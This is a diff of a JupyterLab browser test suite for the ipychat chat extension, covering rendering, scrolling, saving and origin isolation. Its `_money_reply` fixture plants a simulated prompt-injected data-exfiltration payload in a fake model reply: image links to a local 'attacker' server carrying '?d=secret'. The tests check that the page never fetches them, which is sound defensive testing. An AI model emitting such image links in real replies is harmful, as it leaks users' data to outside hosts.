@@ -1,23 +1,35 @@
-"""The chat panel end to end: a real JupyterLab, a real kernel, headless Chromium.
+"""ipychat as people see it: a real JupyterLab, a real kernel, headless Chromium.
 
-JupyterLab runs on 127.0.0.1 with a temporary notebook; its kernel (a separate process)
+JupyterLab runs on 127.0.0.1 with temporary notebooks; its kernel (a separate process)
 reaches the in-test FakeOpenAIServer through OPENAI_BASE_URL. Playwright drives Debian's
-Chromium (never a downloaded browser; see ../shared/RECIPES.md). Everything is stopped in
-`finally` blocks, also when an assertion fails.
+Chromium, never a downloaded browser. The tests read what the browser *renders* (nbval only
+compares the text a kernel sent): dollar amounts as written and never typeset as LaTeX, the
+panel scrolled to its newest reply, a saved notebook that reopens without widget errors, and
+no request leaving the page's origin (a reply's remote images are links, not fetched).
+
+Screenshots go to IPYCHAT_ARTIFACTS (default: the test's temporary directory). With
+IPYCHAT_SCREENSHOTS=docs the README's two screenshots (docs/jupyterlab.png, docs/panel.png)
+are regenerated; normal runs never write into the repository.
+
+Everything is stopped in `finally` blocks, also when an assertion fails.
 """
 
 from __future__ import annotations
 
+import http.server
 import json
 import os
+import re
 import shutil
 import signal
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
 from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -28,7 +40,6 @@ from ipychat.testing import FakeOpenAIServer
 pytestmark = pytest.mark.browser
 
 ROOT = Path(__file__).resolve().parents[1]
-ARTIFACTS = ROOT / "artifacts"
 CHROMIUM = "/usr/bin/chromium"
 CHROMIUM_ARGS = [
     "--headless",
@@ -41,7 +52,11 @@ CHROMIUM_ARGS = [
 ]
 TOKEN = "ipychat-browser-test"
 PANEL_PROMPT = "Tell me about the panel"
-CELL_PROMPT = "Hello from a chat cell"
+MONEY_PROMPT = "How did revenue change this quarter?"
+MONEY_TEXT = "Revenue grew from $1,200 in January to $1,850 in March"
+MATH_ELEMENTS = "mjx-container, .MathJax, .katex"
+AMOUNT = re.compile(r"\$\d[\d,]*(?:\.\d+)?(?:e-\d+)?")
+INLINE_MATH = re.compile(r"\$[^$\s][^$]*?[^\s$]\$(?!\d)")
 
 if not Path(CHROMIUM).exists() or shutil.which("jupyter-lab") is None:
     pytest.skip("needs Debian's chromium and jupyterlab", allow_module_level=True)
@@ -65,23 +80,19 @@ def _wait(condition: Callable[[], Any], what: str, timeout: float = 20.0) -> Any
         time.sleep(0.05)
 
 
-def _notebook() -> dict[str, Any]:
-    def cell(source: str) -> dict[str, Any]:
+def _notebook(*sources: str) -> dict[str, Any]:
+    def cell(index: int, source: str) -> dict[str, Any]:
         return {
             "cell_type": "code",
             "execution_count": None,
-            "id": f"c{abs(hash(source)) % 10**8}",
+            "id": f"cell-{index}",
             "metadata": {},
             "outputs": [],
             "source": source,
         }
 
     return {
-        "cells": [
-            cell("%load_ext ipychat"),
-            cell("%chat panel"),
-            cell(f"%%chat\n{CELL_PROMPT}"),
-        ],
+        "cells": [cell(i, s) for i, s in enumerate(sources)],
         "metadata": {
             "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
             "language_info": {"name": "python"},
@@ -117,6 +128,8 @@ def _isolated_env(home: Path, fake: FakeOpenAIServer) -> dict[str, str]:
             {"fetchNews": "false", "checkForUpdates": False, "doNotDisturbMode": True},
         ),
         ("@jupyterlab/extensionmanager-extension/plugin.jupyterlab-settings", {"enabled": False}),
+        # Every cell in the DOM, so the tests can read outputs scrolled out of view.
+        ("@jupyterlab/notebook-extension/tracker.jupyterlab-settings", {"windowingMode": "none"}),
     ):
         (settings / name).parent.mkdir(parents=True, exist_ok=True)
         (settings / name).write_text(json.dumps(value))
@@ -172,6 +185,14 @@ class Lab:
         sessions = self.api("/api/sessions")
         return bool(sessions) and all(s["kernel"]["execution_state"] == "idle" for s in sessions)
 
+    def saved(self, name: str) -> dict[str, Any]:
+        return self.api(f"/api/contents/{name}?content=1")["content"]  # type: ignore[no-any-return]
+
+    def close_sessions(self) -> None:
+        """Shut the kernels down, as closing the notebook and its kernel does."""
+        for session in self.api("/api/sessions"):
+            self.api(f"/api/sessions/{session['id']}", method="DELETE")
+
     def log(self) -> str:
         return self.log_path.read_text(errors="replace")
 
@@ -193,24 +214,84 @@ class Lab:
         self._log.close()
 
 
-@pytest.fixture
-def lab(tmp_path: Path) -> Iterator[tuple[Lab, FakeOpenAIServer]]:
-    # Slow enough that the reply is seen while it streams (about 1.5 s for the panel's).
-    with FakeOpenAIServer(tokens_per_second=8, models=("gpt-4o-mini", "fake-model")) as fake:
-        root, home = tmp_path / "root", tmp_path / "home"
-        root.mkdir()
-        (root / "panel.ipynb").write_text(json.dumps(_notebook()))
-        server = Lab(root, home, _isolated_env(home, fake))
-        try:
-            _wait(server.ready, "jupyter-lab to answer /api/status", timeout=30)
-            yield server, fake
-        finally:
-            server.stop()
+class Attacker:
+    """A server at another origin that records every request: a reply's images point here,
+    and a page that shows the reply safely never calls it."""
+
+    def __init__(self) -> None:
+        hits = self.hits = []  # type: list[str]
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(404)
+                self.end_headers()
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self._thread.start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+        self._thread.join(5)
 
 
-def test_panel_in_jupyterlab(lab: tuple[Lab, FakeOpenAIServer]) -> None:
-    server, fake = lab
-    ARTIFACTS.mkdir(exist_ok=True)
+def _money_reply(attacker: str) -> str:
+    """Currency, real LaTeX and a prompt-injected exfiltration attempt in three forms."""
+    return (
+        f"{MONEY_TEXT}, a rise of $650; the growth rate $r$ solves $1200(1+r)^2 = 1850$.\n\n"
+        f"![chart]({attacker}/markdown.png?d=secret) "
+        f'<img src="{attacker}/html.png?d=secret"> ![logo][1]\n\n'
+        f"[1]: {attacker}/reference.png?d=secret"
+    )
+
+
+def _replies(attacker: str) -> Callable[[dict[str, Any]], str]:
+    def reply(body: dict[str, Any]) -> str:
+        prompt = str(body["messages"][-1]["content"])
+        if prompt == MONEY_PROMPT:
+            return _money_reply(attacker)
+        if prompt.startswith("Is this review"):
+            return "positive" if "lovely" in prompt else "negative"
+        if prompt == PANEL_PROMPT:  # long enough to be seen while it streams (about 1.5 s)
+            return f"Echo: {prompt}. " + " ".join(f"word{i}" for i in range(40))
+        if prompt.startswith("Message"):  # tall replies, so the panel has to scroll
+            return f"Echo: {prompt}\n\n" + "\n\n".join(f"Point {i}." for i in range(1, 5))
+        return f"Echo: {prompt}"
+
+    return reply
+
+
+@contextmanager
+def _lab(
+    tmp_path: Path, notebooks: dict[str, dict[str, Any]], **server: Any
+) -> Iterator[tuple[Lab, FakeOpenAIServer, Attacker]]:
+    attacker = Attacker()
+    try:
+        options = {"models": ("gpt-4o-mini", "fake-model"), **server}
+        with FakeOpenAIServer(reply=_replies(attacker.url), **options) as fake:
+            root, home = tmp_path / "root", tmp_path / "home"
+            root.mkdir()
+            for name, notebook in notebooks.items():
+                (root / name).write_text(json.dumps(notebook))
+            lab = Lab(root, home, _isolated_env(home, fake))
+            try:
+                _wait(lab.ready, "jupyter-lab to answer /api/status", timeout=30)
+                yield lab, fake, attacker
+            finally:
+                lab.stop()
+    finally:
+        attacker.stop()
+
+
+@contextmanager
+def _browser(lab: Lab) -> Iterator[tuple[Any, list[str]]]:
+    """A page, and every URL it requests (websockets included)."""
     requests: list[str] = []
     with sync_api.sync_playwright() as p:
         browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
@@ -218,41 +299,196 @@ def test_panel_in_jupyterlab(lab: tuple[Lab, FakeOpenAIServer]) -> None:
             page = browser.new_page(viewport={"width": 1280, "height": 1000})
             page.on("request", lambda r: requests.append(r.url))
             page.on("websocket", lambda ws: requests.append(ws.url))
-            try:
-                _drive(page, server)
-            finally:
-                page.screenshot(path=str(ARTIFACTS / "notebook.png"))
+            yield page, requests
         finally:
             browser.close()
-
-    origin = (f"http://127.0.0.1:{server.port}/", f"ws://127.0.0.1:{server.port}/")
+    origin = (f"http://127.0.0.1:{lab.port}/", f"ws://127.0.0.1:{lab.port}/")
     strays = [u for u in requests if not u.startswith((*origin, "data:", "blob:"))]
     assert not strays, f"the browser went elsewhere: {strays[:5]}"
-    assert [r.body["messages"][-1]["content"] for r in fake.chat_requests] == [
-        PANEL_PROMPT,
-        CELL_PROMPT,
-    ]
-    # The %%chat cell continued the thread the panel wrote to.
-    assert len(fake.chat_requests[1].body["messages"]) == 3
-    assert "Traceback" not in server.log(), server.log()
 
 
-def _drive(page: Any, server: Lab) -> None:
-    page.goto(f"{server.url}/lab/tree/panel.ipynb?token={TOKEN}")
+@pytest.fixture
+def shots(tmp_path: Path) -> Callable[[str], str]:
+    """Where a screenshot goes: IPYCHAT_ARTIFACTS (default: this test's temporary directory);
+    the README's two also to IPYCHAT_SCREENSHOTS (relative to the repository) when set."""
+    artifacts = Path(os.environ.get("IPYCHAT_ARTIFACTS") or tmp_path / "screenshots")
+    artifacts.mkdir(parents=True, exist_ok=True)
+
+    def path(name: str) -> str:
+        return str(artifacts / name)
+
+    return path
+
+
+def _publish(shot: str, name: str) -> None:
+    target = os.environ.get("IPYCHAT_SCREENSHOTS")
+    if target:
+        shutil.copyfile(shot, ROOT / target / name)
+
+
+def _open(page: Any, lab: Lab, name: str) -> Any:
+    page.goto(f"{lab.url}/lab/tree/{name}?token={TOKEN}")
     cells = page.locator(".jp-NotebookPanel .jp-Notebook .jp-Cell")
-    cells.nth(2).wait_for(timeout=30_000)
+    cells.first.wait_for(timeout=30_000)
     page.locator(
         '.jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status="idle"]'
     ).wait_for(timeout=30_000)
-    _wait(server.kernel_idle, "the kernel to start")
+    _wait(lab.kernel_idle, "the kernel to start", timeout=30)
+    return cells
 
-    def run_cell(index: int) -> None:
-        cells.nth(index).locator(".jp-InputArea-editor").click()
-        page.keyboard.press("Shift+Enter")
 
-    run_cell(0)
-    _wait(server.kernel_idle, "%load_ext")
-    run_cell(1)
+def _run(cells: Any, page: Any, index: int, timeout: float = 30) -> None:
+    """Run a cell and wait for its execution count (`[3]:`, not `[*]:`)."""
+    cell = cells.nth(index)
+    cell.locator(".jp-InputArea-editor").click()
+    page.keyboard.press("Shift+Enter")
+    prompt = cell.locator(".jp-InputArea-prompt")
+    _wait(lambda: re.fullmatch(r"\[\d+\]:", prompt.inner_text().strip()), f"cell {index}", timeout)
+
+
+def _output(cells: Any, index: int) -> Any:
+    return cells.nth(index).locator(".jp-OutputArea")
+
+
+def _plain(notebook: dict[str, Any], index: int) -> str:
+    """The text/plain the kernel sent for a cell: what ipychat wrote, before rendering."""
+    texts = []
+    for output in notebook["cells"][index]["outputs"]:
+        plain = output.get("data", {}).get("text/plain", output.get("text", ""))
+        texts.append("".join(plain) if isinstance(plain, list) else plain)
+    return "\n".join(texts)
+
+
+def _amounts_as_written(rendered: str, written: str) -> None:
+    """Every dollar amount written appears, in order, in what the browser shows (formulas
+    like `$1200(1+r)^2 = 1850$`, Pandoc-style inline math, are not amounts)."""
+    expected = AMOUNT.findall(INLINE_MATH.sub("", written))
+    assert expected, f"no amounts in {written!r}"
+    assert AMOUNT.findall(rendered) == expected, (rendered, written)
+
+
+# ----- a notebook's first hour ---------------------------------------------------------------------
+
+TOUR = _notebook(
+    "%load_ext ipychat",
+    "%chat budget 0.01",
+    f"%%chat\n{MONEY_PROMPT}",
+    "import numpy as np\nimport pandas as pd\n\n"
+    "reviews = pd.DataFrame({'review': ['Lovely staff, lovely pasta.', 'Cold soup.', "
+    "'The lovely terrace.', 'Rude waiter.', 'A lovely evening.']})\n"
+    "big = pd.DataFrame(np.random.default_rng(0).normal(size=(1000, 8)))",
+    "%%chatmap reviews -o sentiment --max-tokens 5\nIs this review positive or negative? {review}",
+    "%chat usage",
+    "%chat budget",
+    "%chat history",
+    "%%chat --dry-run\nSummarise {big}",
+)
+
+
+def test_a_first_hour_in_jupyterlab(tmp_path: Path, shots: Callable[[str], str]) -> None:
+    with _lab(tmp_path, {"tour.ipynb": TOUR}) as (lab, fake, attacker), _browser(lab) as (page, _):
+        try:
+            _drive_tour(page, lab, shots)
+        finally:
+            page.screenshot(path=shots("tour.png"))
+
+    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
+    assert fake.chat_requests[0].body["messages"][-1]["content"] == MONEY_PROMPT
+    assert "Traceback" not in lab.log(), lab.log()
+
+
+def _drive_tour(page: Any, lab: Lab, shots: Callable[[str], str]) -> None:
+    cells = _open(page, lab, "tour.ipynb")
+    for index in range(len(TOUR["cells"])):
+        _run(cells, page, index)
+    reply = _output(cells, 2)
+    # The reply's real LaTeX is typeset (two formulas) and nothing else is.
+    _wait(lambda: reply.locator(MATH_ELEMENTS).count() == 2, "the reply's two formulas")
+    page.keyboard.press("Control+s")
+    _wait(lambda: lab.saved("tour.ipynb")["cells"][4]["outputs"], "the saved notebook")
+    saved = lab.saved("tour.ipynb")
+
+    # The reply: amounts as written, formulas kept, images shown as links to their host.
+    shown = reply.inner_text()
+    assert MONEY_TEXT in shown and "a rise of $650" in shown
+    _amounts_as_written(shown, _plain(saved, 2))
+    assert reply.locator("img").count() == 0
+    links = reply.locator("a").all_inner_texts()
+    assert "image: chart (127.0.0.1)" in links and "image: logo (127.0.0.1)" in links
+    # ipychat's own lines: the budget, the map's plan/progress/summary, usage, history.
+    for index in (1, 4, 5, 6):
+        text = _output(cells, index).inner_text()
+        _amounts_as_written(text, _plain(saved, index))
+        assert _output(cells, index).locator(MATH_ELEMENTS).count() == 0, index
+    assert "spent $0.00 of $0.01" in _output(cells, 1).inner_text()
+    assert re.search(r"spent \$[\d.e-]+ of \$0\.01", _output(cells, 6).inner_text())
+    usage = _output(cells, 5).locator("td").all_inner_texts()
+    assert sum(1 for td in usage if td.startswith("$")) >= 4  # cost and saved, two rows
+    summary = _output(cells, 4).inner_text()
+    assert "map finished: 5/5" in summary and "Done: 5 rows in" in summary
+    # History: each turn on its own, the reply's amounts as written, its two formulas.
+    history = _output(cells, 7)
+    assert MONEY_TEXT in history.inner_text()
+    assert history.locator(MATH_ELEMENTS).count() == 2
+    assert [s.strip() for s in history.locator("strong").all_inner_texts()] == [
+        "user:",
+        "assistant:",
+    ]
+    # --dry-run: what the 1,000 × 8 frame became.
+    assert "{big}: 1,000 × 8 DataFrame as a summary" in _output(cells, 8).inner_text()
+    for index in (1, 2, 4, 5, 6, 7):  # what each output looks like, to look at
+        cells.nth(index).screenshot(path=shots(f"tour-cell-{index}.png"))
+
+    # Saved and reopened without its kernel: the map shows its static summary.
+    map_outputs = saved["cells"][4]["outputs"]
+    widget = "application/vnd.jupyter.widget-view+json"
+    assert not any(widget in o.get("data", {}) for o in map_outputs)
+    lab.close_sessions()
+    cells = _open(page, lab, "tour.ipynb")
+    _wait(lambda: "map finished: 5/5" in _output(cells, 4).inner_text(), "the static summary")
+    assert "Error displaying widget" not in page.locator(".jp-Notebook").inner_text()
+    _output(cells, 4).scroll_into_view_if_needed()
+    page.screenshot(path=shots("reopened.png"))
+
+
+# ----- the panel ------------------------------------------------------------------------------------
+
+PANEL = _notebook("%load_ext ipychat", "%chat panel", f"%%chat\n{MONEY_PROMPT}")
+SCROLL_GEOMETRY = """(needle) => {
+    const scroller = document.querySelector('.ipychat-scroller');
+    const view = scroller.getBoundingClientRect();
+    // The innermost element showing the needle (a paragraph, a footer), the last one.
+    const holders = [...scroller.querySelectorAll('*')].filter((e) =>
+        e.textContent.includes(needle)
+        && ![...e.children].some((c) => c.textContent.includes(needle)));
+    const block = holders[holders.length - 1].getBoundingClientRect();
+    return {
+        above: block.top - view.top,  // >= 0: the block's top is in view
+        below: view.bottom - block.bottom,  // >= 0: its bottom too
+        fromTop: scroller.scrollHeight - scroller.clientHeight + scroller.scrollTop,
+        scrolls: scroller.scrollHeight > scroller.clientHeight + 50,
+    };
+}"""
+
+
+def test_panel_in_jupyterlab(tmp_path: Path, shots: Callable[[str], str]) -> None:
+    with (
+        _lab(tmp_path, {"panel.ipynb": PANEL}, tokens_per_second=30) as (lab, fake, attacker),
+        _browser(lab) as (page, _),
+    ):
+        try:
+            _drive_panel(page, lab, fake, shots)
+        finally:
+            page.screenshot(path=shots("notebook.png"))
+
+    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
+    assert "Traceback" not in lab.log(), lab.log()
+
+
+def _drive_panel(page: Any, lab: Lab, fake: FakeOpenAIServer, shots: Callable[[str], str]) -> None:
+    cells = _open(page, lab, "panel.ipynb")
+    _run(cells, page, 0)
+    _run(cells, page, 1)
     panel = page.locator(".ipychat-panel")
     panel.wait_for(timeout=20_000)
 
@@ -269,24 +505,67 @@ def _drive(page: Any, server: Lab) -> None:
     panel.locator(".ipychat-send").click()
     transcript = panel.locator(".ipychat-transcript")
     _wait(lambda: "streaming" in transcript.inner_text(), "the reply to start streaming")
-    assert server.kernel_idle(), "sending from the panel must not keep the kernel busy"
-    reply = f"Echo: {PANEL_PROMPT}"
-    _wait(lambda: reply in transcript.inner_text(), "the panel's reply")
+    assert lab.kernel_idle(), "sending from the panel must not keep the kernel busy"
+    _wait(lambda: f"Echo: {PANEL_PROMPT}" in transcript.inner_text(), "the panel's reply")
     _wait(lambda: "thread main (1 turn)" in transcript.inner_text(), "the reply's footer")
     assert "spent $" in panel.locator(".ipychat-spend").inner_text()
 
-    # A %%chat cell shows up in the panel too, on the same thread.
-    run_cell(2)
-    _wait(
-        lambda: f"Echo: {CELL_PROMPT}" in transcript.inner_text(), "the cell's reply in the panel"
+    def send(text: str, turns: int) -> None:
+        prompt.fill(text)
+        panel.locator(".ipychat-send").click()
+        _wait(lambda: f"thread main ({turns} turns)" in transcript.inner_text(), text)
+
+    def geometry(needle: str) -> dict[str, Any]:
+        return page.evaluate(SCROLL_GEOMETRY, needle)  # type: ignore[no-any-return]
+
+    # Several sends: the newest reply and its footer are in view, though the thread is taller.
+    for turn in range(2, 6):
+        send(f"Message {turn}", turn)
+    place = _wait(lambda: (g := geometry("thread main (5 turns)"))["below"] >= 0 and g, "pinned")
+    assert place["scrolls"] and place["above"] >= 0, place
+    assert geometry("Echo: Message 5")["above"] >= -1  # the reply itself, not only its footer
+
+    # Scrolled up to read: a new reply does not pull the view away.
+    page.evaluate(
+        "() => { const s = document.querySelector('.ipychat-scroller'); s.scrollTop = -s.scrollHeight; }"
     )
-    _wait(lambda: "thread main (2 turns)" in transcript.inner_text(), "the cell reply's footer")
-    _wait(server.kernel_idle, "the cell to finish")
+    before = geometry("Echo: Message 2")
+    send("Message 6", 6)
+    after = geometry("Echo: Message 2")
+    assert abs(after["fromTop"] - before["fromTop"]) <= 2, (before, after)
+    assert geometry("thread main (6 turns)")["below"] < 0  # the new reply waits below
+
+    # Back at the end, a %%chat cell's reply shows up in the panel too, amounts as written.
+    page.evaluate("() => { document.querySelector('.ipychat-scroller').scrollTop = 0; }")
+    _run(cells, page, 2)
+    _wait(
+        lambda: "thread main (7 turns)" in transcript.inner_text(), "the cell's reply in the panel"
+    )
+    _wait(lambda: geometry("thread main (7 turns)")["below"] >= 0, "the cell's reply in view")
+    for place_shown in (transcript, _output(cells, 2)):
+        shown = place_shown.inner_text()
+        assert MONEY_TEXT in shown and "a rise of $650" in shown
+        assert "image: chart (127.0.0.1)" in shown
+        assert place_shown.locator("img").count() == 0
+    _wait(lambda: transcript.locator(MATH_ELEMENTS).count() == 2, "the two formulas, typeset")
+    assert [r.body["messages"][-1]["content"] for r in fake.chat_requests] == [
+        PANEL_PROMPT,
+        *(f"Message {turn}" for turn in range(2, 7)),
+        MONEY_PROMPT,
+    ]
+    # The %%chat cell continued the thread the panel wrote to.
+    assert len(fake.chat_requests[-1].body["messages"]) == 13
     assert not panel.locator(".ipychat-error").inner_text().strip()
 
-    # A new draft is estimated with the two turns it would carry along.
-    prompt.press_sequentially("Now compare the two replies in one line", delay=5)
+    # A new draft is estimated with the turns it would carry along.
+    prompt.press_sequentially("Now compare the two quarters in one line", delay=5)
     _wait(lambda: "with history" in estimate.inner_text(), "the estimate with history")
     assert estimate.inner_text().count("$") == 2, "dollar amounts must not be typeset as math"
+    assert panel.locator(f".ipychat-spend :is({MATH_ELEMENTS})").count() == 0
+
+    page.locator(".jp-NotebookPanel .jp-WindowedPanel-outer").evaluate("e => { e.scrollTop = 0; }")
+    page.screenshot(path=shots("jupyterlab.png"))
+    _publish(shots("jupyterlab.png"), "jupyterlab.png")
     panel.scroll_into_view_if_needed()
-    panel.screenshot(path=str(ARTIFACTS / "panel.png"))
+    panel.screenshot(path=shots("panel.png"))
+    _publish(shots("panel.png"), "panel.png")
